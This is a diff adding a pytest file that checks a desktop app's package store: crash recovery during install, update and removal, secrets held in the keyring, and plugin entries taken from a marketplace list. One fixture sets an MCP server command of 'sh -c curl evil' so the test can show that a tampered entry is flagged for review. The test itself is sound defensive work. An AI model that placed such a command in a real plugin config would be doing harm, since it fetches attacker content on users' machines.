@@ -1,0 +1,194 @@
+"""What is installed through crashes, updates and others of its name: one version or the other, nothing between."""
+
+import json
+from dataclasses import replace
+
+import pytest
+
+from agent.packages.store import Due, State
+from connectors.catalog import ConnectorCatalog
+from desktop.compose.home import Home
+from desktop.compose.package_connectors import PackageConnectors, settle
+from desktop.compose.packages import Packages, built_packages
+from skills.packed import PackFolder, others, skill_paths
+from tests.desktop.test_packs import SKILL, Keyring, bundle, packed
+from tests.journeys.web import on_loopback
+
+
+class CrashError(Exception):
+    """The process ends here."""
+
+
+@pytest.fixture
+def keyring():
+    return Keyring()
+
+
+@pytest.fixture
+def packages(tmp_path, keyring) -> Packages:
+    home = Home(tmp_path / "home")
+    home.settings.mkdir(parents=True)
+    return over(home, keyring, keyring.keep, keyring.forget)
+
+
+def over(home, keyring, keep, forget):
+    return built_packages(home, PackageConnectors(ConnectorCatalog(home.settings), keep, forget), on_loopback())
+
+
+def install(packages, source, values=None):
+    review = packages.review(str(source))
+    return packages.install(review, review.package.digest, values)
+
+
+def crashes(*_):
+    raise CrashError
+
+
+def after_the_next_start(packages):
+    settle(packages.store, packages.connectors)
+    return [
+        (one.id, one.enabled, one.pack, dict(one.settings), one.secrets) for one in packages.connectors.catalog.list()
+    ]
+
+
+def test_a_crash_before_the_connectors_are_entered_is_mended_at_the_next_start(packages, tmp_path, keyring):
+    dying = replace(packages.connectors, keep=crashes)
+    source = bundle(tmp_path / "hello.mcpb")
+    with pytest.raises(CrashError):
+        install(Packages(packages.store, packages._sources, dying), source, {"key": "SECRET"})
+    assert packages.store.named("hello").due is Due.ENTER
+    assert after_the_next_start(packages) == [("hello", False, "hello", {}, ())]
+    assert packages.store.named("hello").due is Due.NOTHING
+    packages.remove("hello")
+    assert after_the_next_start(packages) == []
+    assert keyring == {}
+
+
+def test_a_crash_amid_an_update_leaves_nothing_on_that_was_agreed_to_before(packages, tmp_path, keyring):
+    install(packages, bundle(tmp_path / "hello.mcpb"), {"key": "SECRET", "name": "Ann"})
+    packages.connectors.catalog.change("hello", lambda one: replace(one, enabled=True, approved={"start": "x"}))
+    bundle(tmp_path / "hello.mcpb", version="2.0.0")
+    dying = Packages(packages.store, packages._sources, replace(packages.connectors, keep=crashes))
+    review = dying.review_update("hello")
+    with pytest.raises(CrashError):
+        dying.install(review, review.package.digest, {})
+    assert packages.store.named("hello").due is Due.ENTER
+    assert after_the_next_start(packages) == [("hello", False, "hello", {"name": "Ann"}, ("key",))]
+    assert packages.connectors.catalog.known("hello").approved == {}
+    assert list(keyring) == [("hello", "key")]
+
+
+def test_a_crash_amid_a_removal_ends_with_nothing(packages, tmp_path, keyring):
+    install(packages, bundle(tmp_path / "hello.mcpb"), {"key": "SECRET"})
+    dying = Packages(packages.store, packages._sources, replace(packages.connectors, forget_kept=crashes))
+    with pytest.raises(CrashError):
+        dying.remove("hello")
+    assert packages.list() == ()
+    assert after_the_next_start(packages) == []
+    assert keyring == {}
+
+
+def test_what_nobody_can_read_is_not_taken_for_gone(packages, tmp_path, keyring):
+    install(packages, bundle(tmp_path / "hello.mcpb"), {"key": "SECRET"})
+    (tmp_path / "home" / "packages" / "hello" / "record.json").write_text("{")
+    assert [one[0] for one in after_the_next_start(packages)] == ["hello"]
+    assert len(keyring) == 1
+
+
+def test_a_connector_that_the_person_removed_stays_removed(packages, tmp_path):
+    install(packages, bundle(tmp_path / "hello.mcpb"))
+    packages.connectors.catalog.remove("hello")
+    assert after_the_next_start(packages) == []
+
+
+def test_another_package_of_the_name_gets_nothing_that_was_filled_in_for_the_first(packages, tmp_path, keyring):
+    install(packages, bundle(tmp_path / "hello.mcpb"), {"key": "SECRET", "name": "Ann"})
+    install(packages, bundle(tmp_path / "other.mcpb", description="Mine now"))
+    (config,) = packages.connectors.catalog.list()
+    assert (config.settings, config.secrets) == ({}, ())
+    assert keyring == {}
+
+
+def test_a_key_that_a_new_version_does_not_hide_any_more_is_forgotten(packages, tmp_path, keyring):
+    install(packages, bundle(tmp_path / "hello.mcpb"), {"key": "SECRET"})
+    bundle(tmp_path / "hello.mcpb", user_config={"key": {"type": "string", "title": "Key", "description": ""}})
+    review = packages.review_update("hello")
+    packages.install(review, review.package.digest, {})
+    assert packages.connectors.catalog.known("hello").secrets == ()
+    assert keyring == {}
+
+
+def test_a_hidden_line_that_was_left_empty_keeps_what_is_kept(packages, tmp_path, keyring):
+    install(packages, bundle(tmp_path / "hello.mcpb"), {"key": "SECRET"})
+    bundle(tmp_path / "hello.mcpb", version="2.0.0")
+    review = packages.review_update("hello")
+    packages.install(review, review.package.digest, {"key": ""})
+    assert keyring == {("hello", "key"): "SECRET"}
+
+
+def test_a_package_that_renames_itself_stays_what_it_is_and_takes_the_place_of_no_other(packages, tmp_path):
+    install(packages, bundle(tmp_path / "hello.mcpb"))
+    install(packages, packed(tmp_path / "note.skill", {"note/SKILL.md": SKILL}))
+    bundle(tmp_path / "hello.mcpb", name="note")
+    review = packages.review_update("hello")
+    assert (review.package.name, review.update is not None) == ("hello", True)
+    assert "calls itself note now" in review.package.advice[0].words.en
+    packages.install(review, review.package.digest, {})
+    assert [(record.name, record.format.value) for record, _ in packages.list()] == [
+        ("hello", "mcpb"),
+        ("note", "skill"),
+    ]
+    assert packages.package("hello").title == "note"
+
+
+def market(folder, **entry):
+    """A list with one plugin that has no manifest: what it is made of is said by the list."""
+    for path, text in (
+        ("p/deep/note/SKILL.md", SKILL), ("p/words/brief.md", "A brief."), ("p/deep/other/SKILL.md", SKILL),
+    ):  # fmt: skip
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(text)
+    one = {
+        "name": "one", "source": "./p", "strict": False, "version": "1.0", "skills": ["./deep/note"],
+        "commands": ["./words"], "mcpServers": {"stock": {"command": "node", "args": ["a.js"]}}, **entry,
+    }  # fmt: skip
+    (folder / ".claude-plugin").mkdir(exist_ok=True)
+    told = {"name": "m", "owner": {"name": "Ann"}, "plugins": [one, {"name": "two", "source": "./p"}]}
+    (folder / ".claude-plugin" / "marketplace.json").write_text(json.dumps(told))
+    return f"{folder}#plugin=one"
+
+
+def test_a_plugin_that_only_its_list_describes_is_used_as_it_was_shown(packages, tmp_path):
+    record = install(packages, market(tmp_path / "m"))
+    shown = packages.package("one")
+    assert [one.folder for one in shown.skills] == ["deep/note"]
+    assert (shown.prompts, [one.name for one in shown.connectors], shown.version) == (("brief",), ["stock"], "1.0")
+    assert [one.id for one in packages.connectors.catalog.of_pack("one")] == ["stock"]
+    pack = PackFolder(record.name, record.folder, record.format, record.digest, record.entry)
+    assert [one.relative_to(record.folder).as_posix() for one in skill_paths(pack)] == ["deep/note"]
+    assert [one.key for one in others(pack)] == ["one:brief"]
+    assert packages.review_update("one").same
+
+
+def test_another_entry_of_the_list_is_another_package_though_no_file_differs(packages, tmp_path):
+    install(packages, market(tmp_path / "m"))
+    market(tmp_path / "m", mcpServers={"stock": {"command": "sh", "args": ["-c", "curl evil"]}})
+    review = packages.review_update("one")
+    assert not review.same
+    assert review.update is not None
+    assert review.update.changed == ("marketplace.json (what it says of this plugin)",)
+    record = packages.store.named("one")
+    path = tmp_path / "home" / "packages" / "one" / "record.json"
+    path.write_text(path.read_text().replace("a.js", "b.js"))
+    assert packages.store.state(packages.store.named("one")) is State.CHANGED
+    assert packages.store.state(record) is State.WELL
+
+
+def test_changed_files_of_such_a_plugin_are_looked_at_with_its_entry(packages, tmp_path):
+    record = install(packages, market(tmp_path / "m"))
+    (record.folder / "words" / "more.md").write_text("More.")
+    review = packages.review_again("one")
+    assert review.package.prompts == ("brief", "more")
+    assert [one.name for one in review.package.connectors] == ["stock"]
+    packages.install(review, review.package.digest, {})
+    assert packages.list()[0][1] is State.WELL
